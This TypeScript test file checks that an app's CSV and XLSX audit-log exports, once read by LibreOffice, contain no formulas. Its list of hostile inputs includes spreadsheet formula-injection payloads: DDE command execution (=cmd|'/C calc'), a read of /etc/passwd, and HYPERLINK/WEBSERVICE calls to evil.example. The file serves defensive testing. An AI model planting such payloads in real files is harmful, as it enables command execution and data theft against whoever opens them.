/**
 * LibreOffice's reading of our files: no name, label or host of a stranger becomes a formula, whatever
 * separator it assumes.
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { app, type App } from '#test/app'
import { type Desk, desk, type StaffMember } from '#test/desk'
import { convert, ensureSpreadsheet } from '#test/spreadsheet'

/** What a stranger may choose; each would do something if it were a formula. */
const hostile = [
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=WEBSERVICE("https://evil.example")',
  '="harmless"&"?"',
  '+1+cmd|x!A1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'a\n=1+1',
  ' =1+1',
  '"=1+1"',
  "'=1+1",
  'x,=1+1,y',
  'x;=1+1;y',
  'x\t=1+1\ty',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '%0A=1+1',
  'http://=cmd|x/',
]

let shop: App
let office: Desk
let owner: StaffMember
const row = (reason: string, index: number) => ({
  id: String(index + 1),
  at: '2026-11-22T23:30:00.250Z',
  actor: { kind: 'staff' as const, staff_id: '1', name: hostile[(index + 1) % hostile.length] ?? '' },
  action: 'block_customer',
  subject_kind: 'customer',
  subject_id: '7',
  customer_id: '7',
  before: null,
  after: { host: reason },
  reason,
  ip: null,
  request_id: null,
})

beforeAll(async () => {
  ensureSpreadsheet()
  shop = await app({ env: { DEMO: '0' } })
  const audit = async () => ({ rows: hostile.map(row), next: null })
  const fileLimits = { rowsAtOnce: 100, stallMs: 60_000, totalMs: 60_000, atOnce: 4 }
  office = await desk(shop, { fileLimits, handlers: { audit: audit as never } })
  owner = await office.staff('owner')
})
afterAll(async () => {
  await office?.close()
  await shop?.close()
})

const file = async (format: 'csv' | 'xlsx') => {
  const answer = await owner.browser.fetch(`/api/audit.${format}`)
  expect(answer.status).toBe(200)
  return Buffer.from(await answer.arrayBuffer())
}

interface Cell {
  formula: string | null
  text: string
}

const unescape = (text: string) =>
  text
    .replaceAll(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replaceAll(/&#x([0-9a-f]+);/gi, (_, code: string) => String.fromCodePoint(Number.parseInt(code, 16)))
    .replaceAll(
      /&(lt|gt|quot|apos|amp);/g,
      (_, name: string) => ({ lt: '<', gt: '>', quot: '"', apos: "'", amp: '&' })[name] ?? '',
    )

/** The cells of all sheets of a flat OpenDocument file, each with whether it is a formula. */
function cellsIn(fods: Buffer): Cell[] {
  const body = fods.toString('utf8').split('<office:body>')[1] ?? ''
  return [...body.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)].map(
    ([, attributes = '', content = '']) => {
      const formula = /table:formula="([^"]*)"/.exec(attributes)?.[1] ?? null
      const lines = [...content.matchAll(/<text:p[^>]*?(?:\/>|>(.*?)<\/text:p>)/gs)].map(([, line = '']) =>
        line
          .replaceAll(/<text:s text:c="(\d+)"\/>/g, (_, count: string) => ' '.repeat(Number(count)))
          .replaceAll('<text:s/>', ' ')
          .replaceAll('<text:tab/>', '\t')
          .replaceAll('<text:line-break/>', '\n')
          .replaceAll(/<[^>]*>/g, ''),
      )
      return { formula, text: unescape(lines.join('\n')) }
    },
  )
}

/** Line ends as a spreadsheet keeps them, and without the blanks at the ends that it does not show. */
const seen = (text: string) => text.replaceAll(/\r\n?/g, '\n').trim()
const isSame = (cell: string, text: string) => {
  const [one, other] = [seen(cell), seen(text)]
  return one === other || one.replaceAll("'", '') === other.replaceAll("'", '')
}

/**
 * Token 5 is the character set, 1 the separators by their codes, 10 "detect special numbers", and the last
 * evaluates formulas.
 */
const readAs = (separators: string) => `CSV:${separators},34,76,1,,0,false,true,false,false,false,-1`
const separators = { comma: '44', semicolon: '59', tab: '9', 'any of them': '44/59/9' }

describe('our files in LibreOffice', () => {
  it('as workbooks have no formula, and every text as it was', async () => {
    const cells = cellsIn(await convert(await file('xlsx'), { name: 'audit.xlsx', to: 'fods' }))
    expect(cells.filter(({ formula }) => formula !== null)).toEqual([])
    for (const text of hostile)
      expect(
        cells.some((cell) => isSame(cell.text, text)),
        JSON.stringify(text),
      ).toBe(true)
  })

  it.each(Object.entries(separators))('as CSV read by %s have no formula', async (name, codes) => {
    const csv = await file('csv')
    const cells = cellsIn(await convert(csv, { name: 'audit.csv', filter: readAs(codes), to: 'fods' }))
    expect(cells.length).toBeGreaterThan(hostile.length)
    expect(cells.filter(({ formula }) => formula !== null)).toEqual([])
    if (name !== 'comma') return
    for (const text of hostile)
      expect(
        cells.some((cell) => isSame(cell.text, text)),
        JSON.stringify(text),
      ).toBe(true)
  })

  it('as CSV have no formula after they were saved as a workbook and as CSV again', async () => {
    const csv = await file('csv')
    const workbook = await convert(csv, { name: 'audit.csv', filter: readAs('44'), to: 'xlsx' })
    const again = await convert(workbook, { name: 'audit.xlsx', to: 'csv' })
    const cells = cellsIn(await convert(again, { name: 'again.csv', filter: readAs('44'), to: 'fods' }))
    expect(cells.filter(({ formula }) => formula !== null)).toEqual([])
  })

  it('a formula would be found: the same check finds one in a file that has it', async () => {
    const cells = cellsIn(
      await convert(Buffer.from('a,=1+1\r\n'), { name: 'bad.csv', filter: readAs('44'), to: 'fods' }),
    )
    expect(cells.filter(({ formula }) => formula !== null)).toHaveLength(1)
  })

  /** `SHEETS_TO=folder` keeps the pages, for looking at them. */
  it('are printed as texts', async () => {
    const folder = process.env['SHEETS_TO']
    for (const [name, format] of [
      ['audit-csv', 'csv'],
      ['audit-xlsx', 'xlsx'],
    ] as const) {
      const filter = format === 'csv' ? { filter: readAs('44') } : {}
      const bytes = await file(format)
      const pdf = await convert(bytes, { name: `${name}.${format}`, ...filter, to: 'pdf' })
      expect(pdf.subarray(0, 5).toString()).toBe('%PDF-')
      if (folder === undefined) continue
      mkdirSync(folder, { recursive: true })
      writeFileSync(`${folder}/${name}.pdf`, pdf)
    }
  })
})
